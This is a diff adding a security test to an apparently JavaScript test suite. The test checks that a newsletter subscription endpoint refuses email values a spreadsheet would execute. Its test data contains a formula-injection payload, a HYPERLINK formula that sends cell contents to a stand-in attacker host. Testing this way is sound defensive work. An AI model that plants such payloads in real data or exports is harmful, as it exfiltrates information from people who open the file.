@@ -110,3 +110,17 @@ describe("finding 2: one request cannot subscribe thousands of addresses or take
     expect(await subscribers()).toEqual(before);
   });
 });
+
+describe("finding 3: no address that a spreadsheet would run reaches the list", () => {
+  it("anon: subscribing =HYPERLINK(...) is refused with the CHECK's 400, and nothing is stored", async () => {
+    const before = await subscribers();
+    for (const email of ['=HYPERLINK("https://evil.example/?"&A3,"x@y.z")', "+1@example.com"]) {
+      const response = await rest("rpc/subscribe_to_newsletter", {
+        body: { email, source_path: "/" },
+      });
+      expect(response.status).toBe(400);
+      expect(await response.json()).toMatchObject({ code: "23514" });
+    }
+    expect(await subscribers()).toEqual(before);
+  });
+});
